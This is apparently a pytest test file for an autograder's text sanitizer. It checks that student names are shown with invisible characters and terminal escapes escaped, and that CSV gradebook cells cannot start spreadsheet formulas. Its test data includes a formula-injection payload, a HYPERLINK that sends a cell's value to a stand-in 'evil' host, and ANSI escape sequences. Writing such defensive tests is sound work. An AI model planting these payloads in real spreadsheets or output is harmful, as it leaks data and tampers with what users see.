"""Student text made safe to show (`autograder.text`), and typed flags in the results file."""

from __future__ import annotations

import csv
import io
import json

import pytest

from autograder.flags import Flag, FlagKind
from autograder.report import write_csv
from autograder.results import CheckResult, SubmissionResult, read_results, results_document
from autograder.text import csv_cell, display_name, one_line, visible


@pytest.mark.parametrize("raw, shown", [
    ("alice", "alice"),
    ("ecila\u202e", "ecila\\u202e"),  # RIGHT-TO-LEFT OVERRIDE: shown, not obeyed
    ("al\u200bice", "al\\u200bice"),  # a zero-width space never makes two names look the same
    ("\x1b[2Jowned\x07", "\\x1b[2Jowned\\x07"),
    ("a\u2028b", "a\\u2028b"), ("a\nb", "a\\x0ab"),  # never the same as "a b"
    ("\udcffbytes", "\\xffbytes"),  # a byte that was not UTF-8, as a file name keeps it
    ("Zoë 🙂 Łukasz", "Zoë 🙂 Łukasz"),  # letters and symbols of any script stay as they are
])
def test_invisible_characters_are_shown_escaped(raw, shown):
    assert display_name(raw) == shown


def test_multiline_text_keeps_its_lines_and_one_line_text_is_one_line():
    assert visible("a\n\tb\r\x00") == "a\n\tb\\x0d\\x00"
    assert one_line("a\nb\tc  \u2029d\x1c e") == "a b c d e"  # separators are white space here
    assert "\n" not in one_line("x\n" * 100) and len(one_line("y" * 10_000, 300)) <= 300


@pytest.mark.parametrize("value, cell", [
    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("  =1", "'  =1"), ("\t=1", "\\x09=1"), ("alice", "alice"),
    (3.5, 3.5), (-1.0, -1.0), (None, ""), ("a\rb", "a\\x0db"),
])
def test_csv_cells_never_start_a_formula(value, cell):
    assert csv_cell(value) == cell


def test_the_csv_gradebook_is_safe_for_a_spreadsheet(tmp_path):
    names = ['=HYPERLINK("http://evil/?"&A1,"alice")', "bob\x1b[31m", "-carol"]
    results = [SubmissionResult(f"class/{n}/01_losses/losses.ipynb", n, "01_losses",
                                [CheckResult("mse", "ok", 2.0, 2.0)]) for n in names]
    write_csv(tmp_path / "grades.csv", results)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "grades.csv").read_text(encoding="utf-8"))))
    assert [row["student_id"] for row in rows] == [
        '\'=HYPERLINK("http://evil/?"&A1,"alice")', "bob\\x1b[31m", "'-carol"]
    assert all(float(row["score"]) == 2.0 for row in rows)


def test_flags_keep_their_kind_through_the_results_file():
    result = SubmissionResult("p", "ann", "01_losses", flags=[
        Flag(FlagKind.TIMED_OUT, "timed out: mse"), Flag(FlagKind.SUSPICIOUS, "suspicious code: open")])
    document = json.loads(json.dumps(results_document([result])))
    assert document["submissions"][0]["flags"] == [
        {"kind": "timed_out", "text": "timed out: mse", "students_see": True},
        {"kind": "suspicious", "text": "suspicious code: open", "students_see": False}]
    (back,), skipped = read_results(document)
    assert back.flags == result.flags and skipped == []
    assert [f.text for f in back.flags_for_students()] == ["timed out: mse"]
